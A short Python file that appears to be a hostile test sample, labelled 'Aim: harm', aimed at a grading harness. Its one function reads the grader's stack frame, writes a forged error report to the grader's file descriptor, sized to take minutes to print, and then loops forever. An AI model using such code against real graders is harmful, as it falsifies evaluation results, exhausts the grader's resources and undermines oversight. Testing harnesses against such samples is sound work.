"""Forges a report whose text is an array that takes the grader minutes to print.

Aim: harm
"""
import os
import struct
import sys

import msgpack


def double(x):
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    array = ["a", "|i1", [2] * 22]
    tree = msgpack.packb(["d", ["error", ["d", ["kind", "raised"], ["message", array]]]])
    data = struct.pack(">QII", frame.f_locals["number"], len(tree), 2**22) + tree + bytes(2**22)
    while data:
        data = data[os.write(3, data) :]
    while True:
        pass
